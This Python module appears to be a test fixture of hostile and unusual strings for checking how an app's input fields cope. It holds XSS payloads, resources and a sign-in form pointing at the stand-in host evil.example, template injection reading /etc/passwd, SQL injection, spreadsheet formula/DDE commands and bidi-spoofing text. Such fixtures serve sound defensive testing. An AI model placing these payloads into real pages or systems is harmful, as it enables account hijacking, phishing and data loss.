"""Texts that people with bad intentions, or good emoji, write into fields."""

import re

_ALERT = "alert('hostile')"

# A lone combining mark stacks onto the character before it.
_STACK = "Z" + "".join(map(chr, range(0x0300, 0x0330))) * 2

_QUOTES = "\"'`\u201c\u201d\u2018\u2019\u00ab\u00bb\u2039\u203a\uff02\uff07"
_HELLO = "\u0645\u0631\u062d\u0628\u0627"
# Spaces of no width, joiners, a soft hyphen, and two ends of lines.
_UNSEEN = "a\u200bb\u200dc\ufeffd\u00ade\u2060f\u2028g\u2029h"

STRINGS: tuple[str, ...] = (
    # Scripts, and what starts them.
    f"<script>{_ALERT}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f'"><script>{_ALERT}</script>',
    f"'><script>{_ALERT}</script>",
    f"</script><script>{_ALERT}</script>",
    f"<img src=x onerror={_ALERT}>",
    f'<img src=x onerror="{_ALERT}"//',
    f"<body onload={_ALERT}>",
    f"<input autofocus onfocus={_ALERT}>",
    f"<details open ontoggle={_ALERT}>",
    f"<video><source onerror={_ALERT}>",
    f'" onmouseover={_ALERT} x="',
    f"' autofocus onfocus={_ALERT} x='",
    f"` onload={_ALERT} ",
    # Links and frames.
    f"javascript:{_ALERT}",
    f"JaVaScRiPt:{_ALERT}//https://www.tiktok.com/",
    f"[click](javascript:{_ALERT})",
    f"[click](data:text/html,<script>{_ALERT}</script>)",
    "![seen](https://evil.example/pixel.png)",
    f'<a href="jav&#x09;ascript:{_ALERT}">x</a>',
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    # SVG and MathML, in which other rules hold.
    f"<svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg><a xlink:href=javascript:{_ALERT}><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=https://evil.example/x.svg#x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_ALERT}>",
    f"<math href=javascript:{_ALERT}>x</math>",
    # Texts that end the place they stand in.
    f"</textarea><script>{_ALERT}</script>",
    f"</title><script>{_ALERT}</script>",
    f"--><script>{_ALERT}</script><!--",
    f"]]><script>{_ALERT}</script>",
    f"</style><script>{_ALERT}</script>",
    "</span></a></td></tr></table></main><h1>Owned</h1>",
    "<!--",
    "<plaintext>",
    # Templates, style sheets and other languages.
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "</style><style>*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example)">',
    "\\3c script\\3e",
    "%3Cscript%3E%00\\u003cscript\\u003e&lt;script&gt;&#60;script&#62;",
    f"<p hx-on:load={_ALERT} hx-get=https://evil.example/ hx-trigger=load>",
    "<b data-opens=x data-closes hx-get=/sign-out hx-trigger=load>x</b>",
    "'; DROP TABLE creators; --",
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    # Quotes of each kind.
    f"{_QUOTES}\uff1cscript\uff1e\\",
    # Writing that runs the other way, or cannot be seen.
    "\u200f\N{HEBREW LETTER ALEF}\N{HEBREW LETTER BET} 123 (abc) !?",
    f"{_HELLO} \u061c42% - 7",
    _UNSEEN,
    "\x01\x08\x0b\x1b[31mred\x1b[0m\x7f\x85\x9f",
    _STACK * 4,
    "\N{MONGOLIAN LETTER A}\N{NARROW NO-BREAK SPACE}" * 20,
    # Emoji: flags, families, skins, and flags cut in half.
    "\U0001f1e9\U0001f1ea\U0001f1eb\U0001f1f7\U0001f1e9 \U0001f3f4\u200d\u2620\ufe0f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f44d\U0001f3ff",
    "\N{GOAT}" * 150,
    # Much of it.
    "W" * 200,
    "word " * 40,
)  # fmt: skip

# The API refuses these, so only a source of events can bring them.
FROM_SOURCES: tuple[str, ...] = (
    "\N{RIGHT-TO-LEFT OVERRIDE}moc.elpmaxe//:sptth",
    "\u202d\N{HEBREW LETTER ALEF}\u202c\u202c\u202bnever ended",
    "\N{RIGHT-TO-LEFT ISOLATE}\N{FIRST STRONG ISOLATE}\N{LEFT-TO-RIGHT ISOLATE}abc",
    "W" * 10_000,
    "10,000 characters and more " * 400,
    _STACK * 100,
    "\N{GOAT}\N{ZERO WIDTH JOINER}" * 2_500,
    "\n" * 300 + "below",
)

ALL = STRINGS + FROM_SOURCES


def in_one_line(text: str) -> str:
    """Return the text without the control characters that names refuse."""
    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]", "", text)
